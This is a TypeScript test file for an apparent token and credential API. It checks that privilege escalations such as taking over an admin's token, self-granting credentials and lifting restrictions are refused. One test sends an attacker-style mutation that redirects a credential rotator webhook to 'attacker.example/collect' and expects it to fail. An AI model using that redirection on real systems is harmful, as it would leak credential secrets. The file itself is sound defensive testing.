// Privilege escalations that must stay closed: acting on a more powerful owner's control-plane
// credential, a data-plane token turned into a control-plane one, a holder lifting restrictions
// set above it, and a tenant losing its last full administrator. Each refusal changes nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi } from '../helpers/api';
import {
  createScopes,
  issue,
  newPrincipal,
  newTenant,
  type PrincipalFixture,
  roleId,
  type TenantFixture,
} from '../helpers/fixtures';
import {
  AssignRoleDocument,
  CreateCredentialDocument,
  CreateOwnerDocument,
  CreateRoleDocument,
  CreateRotationPolicyDocument,
  GrantCredentialDocument,
  RevealCredentialDocument,
  RotateTokenDocument,
  SetTokenPolicyDocument,
  TokensOfOwnerDocument,
  UnassignRoleDocument,
} from '../generated/graphql';

let api: TestApi;
let t: TenantFixture;
let operator: PrincipalFixture;
let developer: PrincipalFixture;

const ISSUE = `mutation($input: IssueTokenInput!) { issueToken(input: $input) { secret token { id kind } } }`;
const ME = `{ viewer { id } }`;

const tokenCount = async () =>
  (await api.sql(`SELECT count(*)::int AS n FROM tokens WHERE tenant_id = $1`, [t.tenantId]))[0].n as number;
const secretsOf = async (tokenId: string) =>
  await api.sql(`SELECT id, state FROM token_secrets WHERE token_id = $1 ORDER BY generation`, [tokenId]);

beforeAll(async () => {
  api = await startTestApi();
  t = await newTenant(api);
  await createScopes(api, t.adminToken, ['crm:deals:read', 'crm:deals:write']);
  operator = await newPrincipal(api, t.adminToken, ['operator']);
  developer = await newPrincipal(api, t.adminToken, ['developer'], ['crm:deals:read', 'crm:deals:write']);
});
afterAll(() => api.close());

describe('acting on another owner’s control-plane credential', () => {
  it('an operator cannot issue a CONTROL token for the admin, and nothing is written', async () => {
    const before = await tokenCount();
    const r = await api.gql(operator.token, ISSUE, { input: { ownerId: t.adminId, name: 'mine now', scopes: [] } });
    expect(r.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(r.errors?.[0]?.message).toMatch(/TENANT_ADMIN/);
    expect(await tokenCount()).toBe(before);
  });

  it('an operator cannot rotate the admin’s token to take its secret, and the admin keeps its access', async () => {
    const adminTokenId = (await api.ok(t.adminToken, TokensOfOwnerDocument, { ownerId: t.adminId })).tokens.edges[0]
      .node.id;
    const before = await secretsOf(adminTokenId);
    const r = await api.gql(operator.token, RotateTokenDocument, { id: adminTokenId, gracePeriod: 'PT0S' });
    expect(r.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(await secretsOf(adminTokenId)).toEqual(before);
    expect((await api.gql(t.adminToken, ME)).data.viewer.id).toBe(t.adminId);
  });

  it('an operator may still issue DATA tokens for anyone, and CONTROL tokens for owners it outranks', async () => {
    const data = await api.ok(operator.token, ISSUE, {
      input: { ownerId: developer.ownerId, name: 'crm widget', scopes: ['crm:deals:read'] },
    });
    expect(data.issueToken.token.kind).toBe('DATA');
    const weaker = await newPrincipal(api, t.adminToken, ['auditor']);
    // The operator lacks AUDIT_READ, which the auditor holds: refused.
    expect(
      (await api.gql(operator.token, ISSUE, { input: { ownerId: weaker.ownerId, name: 'x', scopes: [] } })).errors?.[0]
        ?.extensions?.code,
    ).toBe('FORBIDDEN');
    const gateway = await newPrincipal(api, t.adminToken, ['gateway']);
    const control = await api.ok(operator.token, ISSUE, {
      input: { ownerId: gateway.ownerId, name: 'gw', scopes: [] },
    });
    expect(control.issueToken.token.kind).toBe('CONTROL');
    const rotated = await api.gql(operator.token, RotateTokenDocument, {
      id: control.issueToken.token.id,
      gracePeriod: 'PT0S',
    });
    expect(rotated.errors).toBeUndefined();
  });
});

describe('an owner’s power is its permissions and its credential grants', () => {
  const credential = async (name: string, value: string) =>
    api.ok(t.adminToken, CreateCredentialDocument, { input: { name, value } });
  const grants = async (name: string) =>
    (
      await api.sql(
        `SELECT g.owner_id FROM credential_grants g JOIN credentials c ON c.id = g.credential_id WHERE c.tenant_id = $1 AND c.name = $2 ORDER BY 1`,
        [t.tenantId, name],
      )
    ).map((r) => r.owner_id);

  it('an operator cannot mint or rotate a CONTROL token of a granted service that holds no roles, and reads nothing', async () => {
    await credential('crm-key-power', 'crm-canary-value-1');
    const service = await newPrincipal(api, t.adminToken, []);
    await api.ok(t.adminToken, GrantCredentialDocument, { name: 'crm-key-power', ownerId: service.ownerId });
    const before = await tokenCount();
    const issued = await api.gql(operator.token, ISSUE, {
      input: { ownerId: service.ownerId, name: 'takeover', scopes: [] },
    });
    expect(issued.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(issued.errors?.[0]?.message).toMatch(/grants on 1 credential/);
    expect(await tokenCount()).toBe(before);
    const serviceTokenId = (await api.ok(t.adminToken, TokensOfOwnerDocument, { ownerId: service.ownerId })).tokens
      .edges[0].node.id;
    const secrets = await secretsOf(serviceTokenId);
    expect(
      (await api.gql(operator.token, RotateTokenDocument, { id: serviceTokenId, gracePeriod: 'PT0S' })).errors?.[0]
        ?.extensions?.code,
    ).toBe('FORBIDDEN');
    expect(await secretsOf(serviceTokenId)).toEqual(secrets);
    expect(await grants('crm-key-power')).toEqual([service.ownerId]);
    // The service itself still reads what it was granted; the admin (CREDENTIAL_ADMIN) may mint for it.
    expect(
      (await api.ok(service.token, RevealCredentialDocument, { name: 'crm-key-power' })).revealCredential.value,
    ).toBe('crm-canary-value-1');
    expect(
      (await api.ok(t.adminToken, ISSUE, { input: { ownerId: service.ownerId, name: 'by the admin', scopes: [] } }))
        .issueToken.token.kind,
    ).toBe('CONTROL');
  });

  it('an operator cannot suspend, restrict, re-police, revoke or bulk-revoke the admin’s only CONTROL token; nothing changes', async () => {
    const tenant = await newTenant(api);
    const op = await newPrincipal(api, tenant.adminToken, ['operator']);
    const adminTokenId = (await api.ok(tenant.adminToken, TokensOfOwnerDocument, { ownerId: tenant.adminId })).tokens
      .edges[0].node.id;
    const policy = (
      await api.ok(op.token, CreateRotationPolicyDocument, {
        input: { name: 'short', gracePeriod: 'PT1M', expireAfter: 'PT2M' },
      })
    ).createRotationPolicy.id;
    const state = async () =>
      (
        await api.sql(
          `SELECT status, allowed_cidrs::text[] AS cidrs, rotation_policy_id, revoked_at, version FROM tokens WHERE id = $1`,
          [adminTokenId],
        )
      )[0];
    const events = async () =>
      (await api.sql(`SELECT count(*)::int AS n FROM audit_events WHERE tenant_id = $1`, [tenant.tenantId]))[0].n;
    const [before, eventsBefore] = [await state(), await events()];
    const attempts = [
      [`mutation($id: ID!) { suspendToken(id: $id, reason: "x") { id } }`, { id: adminTokenId }],
      [
        `mutation($id: ID!) { updateToken(id: $id, input: { allowedCidrs: ["10.0.0.0/8"] }) { id } }`,
        { id: adminTokenId },
      ],
      [
        `mutation($id: ID!, $p: ID) { setTokenPolicy(id: $id, rotationPolicyId: $p) { id } }`,
        { id: adminTokenId, p: policy },
      ],
      [`mutation($id: ID!) { revokeToken(id: $id, reason: "x") { id } }`, { id: adminTokenId }],
      [`mutation($o: ID!) { revokeTokens(filter: { ownerId: $o }, reason: "x") { count } }`, { o: tenant.adminId }],
    ] as const;
    for (const [query, variables] of attempts) {
      const r = await api.gql(op.token, query, variables);
      expect(r.errors?.[0]?.extensions?.code, query).toBe('FORBIDDEN');
    }
    expect(await state()).toEqual(before);
    expect(await events()).toBe(eventsBefore);
    expect((await api.gql(tenant.adminToken, ME)).data.viewer.id).toBe(tenant.adminId);
    // Nor through a policy the admin put its token under.
    await api.ok(tenant.adminToken, SetTokenPolicyDocument, { id: adminTokenId, rotationPolicyId: policy });
    const governed = await state();
    const tighten = await api.gql(
      op.token,
      `mutation($id: ID!) { updateRotationPolicy(id: $id, input: { name: "short", gracePeriod: "PT1M", expireAfter: "PT1M", rateLimit: { requests: 1, per: "PT24H" } }) { id } }`,
      { id: policy },
    );
    expect(tighten.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(await state()).toEqual(governed);
    expect((await api.gql(tenant.adminToken, ME)).data.viewer.id).toBe(tenant.adminId);
    // A DATA token of the admin is still the operator's to manage; so is a gateway's CONTROL token.
    const data = await issue(api, tenant.adminToken, tenant.adminId, [], { kind: 'DATA' });
    expect(
      (await api.ok(op.token, `mutation($id: ID!) { suspendToken(id: $id, reason: "x") { status } }`, { id: data.id }))
        .suspendToken.status,
    ).toBe('SUSPENDED');
    const gateway = await newPrincipal(api, tenant.adminToken, ['gateway']);
    expect(
      (
        await api.ok(
          op.token,
          `mutation($o: ID!) { revokeTokens(filter: { ownerId: $o }, reason: "retired") { count } }`,
          { o: gateway.ownerId },
        )
      ).revokeTokens.count,
    ).toBe(1);
  });
});

describe('a CONTROL token handed out before its owner gained power', () => {
  it('keeps an operator who minted a service token from gaining the grants and roles the admin gives the service later', async () => {
    const service = (
      await api.ok(t.adminToken, CreateOwnerDocument, { input: { kind: 'SERVICE', name: 'billing-backend' } })
    ).createOwner.id;
    const minted = await api.ok(operator.token, ISSUE, {
      input: { ownerId: service, name: 'minted early', scopes: [] },
    });
    await api.ok(t.adminToken, CreateCredentialDocument, { input: { name: 'billing-key', value: 'billing-canary' } });
    const grant = await api.gql(t.adminToken, GrantCredentialDocument, { name: 'billing-key', ownerId: service });
    expect(grant.errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', tokens: [minted.issueToken.token.id] });
    const assign = await api.gql(t.adminToken, AssignRoleDocument, {
      ownerId: service,
      roleId: await roleId(api, t.adminToken, 'admin'),
    });
    expect(assign.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    const [held] = await api.sql(
      `SELECT (SELECT count(*) FROM credential_grants WHERE owner_id = $1)::int AS grants, (SELECT count(*) FROM role_bindings WHERE owner_id = $1)::int AS roles`,
      [service],
    );
    expect(held).toEqual({ grants: 0, roles: 0 });
    expect(
      (
        await fetch(`${api.url}/v1/credentials/billing-key`, {
          headers: { authorization: `Bearer ${minted.issueToken.secret}` },
        })
      ).status,
    ).toBe(403);
    // Rotated by the admin, the token is in the admin's hands: the grant goes through, and the operator's old secret is gone.
    const rotated = await api.ok(t.adminToken, RotateTokenDocument, {
      id: minted.issueToken.token.id,
      gracePeriod: 'PT0S',
    });
    expect(
      (await api.ok(t.adminToken, GrantCredentialDocument, { name: 'billing-key', ownerId: service })).grantCredential
        .ownerId,
    ).toBe(service);
    expect(
      (
        await fetch(`${api.url}/v1/credentials/billing-key`, {
          headers: { authorization: `Bearer ${minted.issueToken.secret}` },
        })
      ).status,
    ).toBe(401);
    expect(
      (
        await fetch(`${api.url}/v1/credentials/billing-key`, {
          headers: { authorization: `Bearer ${rotated.rotateToken.secret}` },
        })
      ).status,
    ).toBe(200);
  });
});

describe('writing a credential is not reading it', () => {
  let writer: PrincipalFixture;
  const count = async () =>
    (await api.sql(`SELECT count(*)::int AS n FROM credential_grants WHERE tenant_id = $1`, [t.tenantId]))[0].n;

  beforeAll(async () => {
    const role = (
      await api.ok(
        t.adminToken,
        `mutation { createRole(input: { name: "credential-writer", permissions: [CREDENTIAL_READ, CREDENTIAL_WRITE, TOKEN_CREATE, TOKEN_ALL_OWNERS, OWNER_READ] }) { name } }`,
      )
    ).createRole.name;
    writer = await newPrincipal(api, t.adminToken, [role]);
    await api.ok(t.adminToken, CreateCredentialDocument, {
      input: { name: 'pg-admin-w', value: 'postgres://admin:pw@db.example/x' },
    });
  });

  it('CREDENTIAL_WRITE cannot grant itself, nor an owner whose token it mints, on a credential it cannot read', async () => {
    const before = await count();
    const self = await api.gql(writer.token, GrantCredentialDocument, { name: 'pg-admin-w', ownerId: writer.ownerId });
    expect(self.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(self.errors?.[0]?.extensions?.missingPermissions).toEqual(['CREDENTIAL_ADMIN']);
    // Mint a service's CONTROL token first (it holds nothing yet), then grant it: refused too.
    const service = await newPrincipal(api, t.adminToken, []);
    await api.ok(writer.token, ISSUE, { input: { ownerId: service.ownerId, name: 'proxy', scopes: [] } });
    expect(
      (await api.gql(writer.token, GrantCredentialDocument, { name: 'pg-admin-w', ownerId: service.ownerId }))
        .errors?.[0]?.extensions?.code,
    ).toBe('FORBIDDEN');
    expect(await count()).toBe(before);
  });

  it('CREDENTIAL_WRITE cannot point the rotator of a credential it cannot read at its own URL; nothing changes', async () => {
    const before = await api.sql(
      `SELECT rotator, rotator_secret_ciphertext FROM credentials WHERE tenant_id = $1 AND name = 'pg-admin-w'`,
      [t.tenantId],
    );
    const r = await api.gql(
      writer.token,
      `mutation { setCredentialRotator(name: "pg-admin-w", input: { kind: WEBHOOK, url: "https://attacker.example/collect", gracePeriod: "PT1H" }) { signingSecret } }`,
    );
    expect(r.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(r.errors?.[0]?.extensions?.missingPermissions).toEqual(['CREDENTIAL_ADMIN']);
    expect(
      await api.sql(
        `SELECT rotator, rotator_secret_ciphertext FROM credentials WHERE tenant_id = $1 AND name = 'pg-admin-w'`,
        [t.tenantId],
      ),
    ).toEqual(before);
  });

  it('a writer granted on the credential may pass it on; the admin (CREDENTIAL_ADMIN) may grant anyone, itself included', async () => {
    await api.ok(t.adminToken, GrantCredentialDocument, { name: 'pg-admin-w', ownerId: writer.ownerId });
    const other = await newPrincipal(api, t.adminToken, []);
    expect(
      (await api.ok(writer.token, GrantCredentialDocument, { name: 'pg-admin-w', ownerId: other.ownerId }))
        .grantCredential.ownerId,
    ).toBe(other.ownerId);
    expect(
      (await api.ok(t.adminToken, GrantCredentialDocument, { name: 'pg-admin-w', ownerId: t.adminId })).grantCredential
        .ownerId,
    ).toBe(t.adminId);
  });
});

describe('token kinds', () => {
  it('a DATA token left with no scopes by a shrinking ceiling still cannot call Latchkey', async () => {
    const crm = await issue(api, t.adminToken, developer.ownerId, ['crm:deals:read']);
    await api.ok(t.adminToken, `mutation($id: ID!) { updateOwner(id: $id, input: { allowedScopes: [] }) { id } }`, {
      id: developer.ownerId,
    });
    const scopes = await api.sql(`SELECT count(*)::int AS n FROM token_scopes WHERE token_id = $1`, [crm.id]);
    expect(scopes[0].n).toBe(0);
    const r = await api.gql(crm.secret, ME);
    expect(r.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect(r.errors?.[0]?.message).toMatch(/DATA token/);
    // Its owner's CONTROL token still works.
    expect((await api.gql(developer.token, ME)).data.viewer.id).toBe(developer.ownerId);
    await api.ok(
      t.adminToken,
      `mutation($id: ID!) { updateOwner(id: $id, input: { allowedScopes: ["crm:deals:read", "crm:deals:write"] }) { id } }`,
      { id: developer.ownerId },
    );
  });

  it('a DATA token issued without scopes cannot call Latchkey', async () => {
    const data = await api.ok(t.adminToken, ISSUE, {
      input: { ownerId: developer.ownerId, name: 'any route', scopes: [], kind: 'DATA' },
    });
    expect(data.issueToken.token.kind).toBe('DATA');
    expect((await api.gql(data.issueToken.secret, ME)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('a CONTROL token with scopes is refused as bad input, and nothing is written', async () => {
    const before = await tokenCount();
    const r = await api.gql(t.adminToken, ISSUE, {
      input: { ownerId: t.adminId, name: 'x', scopes: ['crm:deals:read'], kind: 'CONTROL' },
    });
    expect(r.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(r.errors?.[0]?.extensions?.argument).toBe('scopes');
    expect(await tokenCount()).toBe(before);
  });
});

describe('restrictions set above the holder', () => {
  const UPDATE = `mutation($id: ID!, $input: UpdateTokenInput!) { updateToken(id: $id, input: $input) { allowedCidrs rateLimit { requests per } } }`;
  const row = async (id: string) =>
    (
      await api.sql(
        `SELECT allowed_cidrs::text[] AS cidrs, rate_limit, rate_window_s, rotation_policy_id FROM tokens WHERE id = $1`,
        [id],
      )
    )[0];

  it('the developer may tighten but not lift networks and a rate limit an admin set; nothing changes on refusal', async () => {
    const tok = await issue(api, t.adminToken, developer.ownerId, ['crm:deals:read'], {
      allowedCidrs: ['10.0.0.0/8'],
      rateLimit: { requests: 100, per: 'PT1M' },
    });
    const before = await row(tok.id);
    for (const input of [
      { allowedCidrs: null },
      { allowedCidrs: ['0.0.0.0/0'] },
      { rateLimit: null },
      { rateLimit: { requests: 101, per: 'PT1M' } },
      { rateLimit: { requests: 100, per: 'PT30S' } },
    ]) {
      const r = await api.gql(developer.token, UPDATE, { id: tok.id, input });
      expect(r.errors?.[0]?.extensions?.code, JSON.stringify(input)).toBe('FORBIDDEN');
    }
    expect(await row(tok.id)).toEqual(before);
    const tighter = await api.ok(developer.token, UPDATE, {
      id: tok.id,
      input: { allowedCidrs: ['10.1.0.0/16'], rateLimit: { requests: 10, per: 'PT1M' } },
    });
    expect(tighter.updateToken).toEqual({ allowedCidrs: ['10.1.0.0/16'], rateLimit: { requests: 10, per: 'PT1M' } });
    // Having tightened them, the developer still cannot lift them past what the admin set.
    expect(
      (await api.gql(developer.token, UPDATE, { id: tok.id, input: { allowedCidrs: null } })).errors?.[0]?.extensions
        ?.code,
    ).toBe('FORBIDDEN');
    // The admin can.
    expect(
      (await api.ok(t.adminToken, UPDATE, { id: tok.id, input: { allowedCidrs: null, rateLimit: null } })).updateToken,
    ).toEqual({ allowedCidrs: null, rateLimit: null });
  });

  it('the developer may not detach or replace an expiry policy an admin attached', async () => {
    const policy = (
      await api.ok(t.adminToken, CreateRotationPolicyDocument, {
        input: { name: `expire-${Date.now()}`, gracePeriod: 'PT1H', expireAfter: 'P30D' },
      })
    ).createRotationPolicy.id;
    const other = (
      await api.ok(t.adminToken, CreateRotationPolicyDocument, {
        input: { name: `lax-${Date.now()}`, gracePeriod: 'PT1H' },
      })
    ).createRotationPolicy.id;
    const tok = await issue(api, t.adminToken, developer.ownerId, ['crm:deals:read'], { rotationPolicyId: policy });
    const before = await row(tok.id);
    expect(
      (await api.gql(developer.token, SetTokenPolicyDocument, { id: tok.id, rotationPolicyId: null })).errors?.[0]
        ?.extensions?.code,
    ).toBe('FORBIDDEN');
    expect(
      (await api.gql(developer.token, SetTokenPolicyDocument, { id: tok.id, rotationPolicyId: other })).errors?.[0]
        ?.extensions?.code,
    ).toBe('FORBIDDEN');
    expect(await row(tok.id)).toEqual(before);
  });

  it('restrictions the developer set on its own token remain its own to lift', async () => {
    const own = await issue(api, developer.token, developer.ownerId, ['crm:deals:read'], {
      allowedCidrs: ['10.0.0.0/8'],
    });
    expect(
      (await api.ok(developer.token, UPDATE, { id: own.id, input: { allowedCidrs: null } })).updateToken.allowedCidrs,
    ).toBeNull();
  });
});

describe('the last administrator', () => {
  it('updateRole cannot strip the only full administrator, and nothing changes', async () => {
    const tenant = await newTenant(api);
    // The admin also holds a custom role; moving it to that role alone, then emptying the role, is the path the probe took.
    const custom = (
      await api.ok(tenant.adminToken, CreateRoleDocument, {
        input: {
          name: 'everything',
          permissions: [
            'TENANT_ADMIN',
            'ROLE_WRITE',
            'ROLE_READ',
            'OWNER_READ',
            'OWNER_WRITE',
            'SCOPE_READ',
            'SCOPE_WRITE',
            'TOKEN_READ',
            'TOKEN_CREATE',
            'TOKEN_ROTATE',
            'TOKEN_REVOKE',
            'TOKEN_VERIFY',
            'TOKEN_ALL_OWNERS',
            'POLICY_READ',
            'POLICY_WRITE',
            'AUDIT_READ',
            'WEBHOOK_READ',
            'WEBHOOK_WRITE',
            'CREDENTIAL_READ',
            'CREDENTIAL_WRITE',
            'CREDENTIAL_ADMIN',
          ],
        },
      })
    ).createRole.id;
    await api.ok(tenant.adminToken, AssignRoleDocument, { ownerId: tenant.adminId, roleId: custom });
    const adminRole = await roleId(api, tenant.adminToken, 'admin');
    await api.ok(tenant.adminToken, UnassignRoleDocument, { ownerId: tenant.adminId, roleId: adminRole });
    const before = await api.sql(`SELECT permissions FROM roles WHERE id = $1`, [custom]);
    for (const permissions of [['TENANT_ADMIN'], ['TENANT_ADMIN', 'ROLE_WRITE', 'ROLE_READ']]) {
      const r = await api.gql(
        tenant.adminToken,
        `mutation($id: ID!, $p: [Permission!]) { updateRole(id: $id, input: { permissions: $p }) { id } }`,
        { id: custom, p: permissions },
      );
      expect(r.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    }
    expect(await api.sql(`SELECT permissions FROM roles WHERE id = $1`, [custom])).toEqual(before);
  });

  it('unassigning a role that carries part of the only administrator’s powers is refused', async () => {
    const tenant = await newTenant(api);
    const tokens = (
      await api.ok(tenant.adminToken, CreateRoleDocument, {
        input: { name: 'tokens', permissions: ['TOKEN_READ', 'TOKEN_CREATE'] },
      })
    ).createRole.id;
    const rest = (
      await api.ok(tenant.adminToken, CreateRoleDocument, {
        input: {
          name: 'rest',
          permissions: [
            'TENANT_ADMIN',
            'ROLE_WRITE',
            'ROLE_READ',
            'OWNER_READ',
            'OWNER_WRITE',
            'SCOPE_READ',
            'SCOPE_WRITE',
            'TOKEN_ROTATE',
            'TOKEN_REVOKE',
            'TOKEN_VERIFY',
            'TOKEN_ALL_OWNERS',
            'POLICY_READ',
            'POLICY_WRITE',
            'AUDIT_READ',
            'WEBHOOK_READ',
            'WEBHOOK_WRITE',
            'CREDENTIAL_READ',
            'CREDENTIAL_WRITE',
            'CREDENTIAL_ADMIN',
          ],
        },
      })
    ).createRole.id;
    for (const r of [tokens, rest])
      await api.ok(tenant.adminToken, AssignRoleDocument, { ownerId: tenant.adminId, roleId: r });
    const adminRole = await roleId(api, tenant.adminToken, 'admin');
    await api.ok(tenant.adminToken, UnassignRoleDocument, { ownerId: tenant.adminId, roleId: adminRole });
    const r = await api.gql(tenant.adminToken, UnassignRoleDocument, { ownerId: tenant.adminId, roleId: tokens });
    expect(r.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    const bound = await api.sql(`SELECT count(*)::int AS n FROM role_bindings WHERE owner_id = $1 AND role_id = $2`, [
      tenant.adminId,
      tokens,
    ]);
    expect(bound[0].n).toBe(1);
  });
});
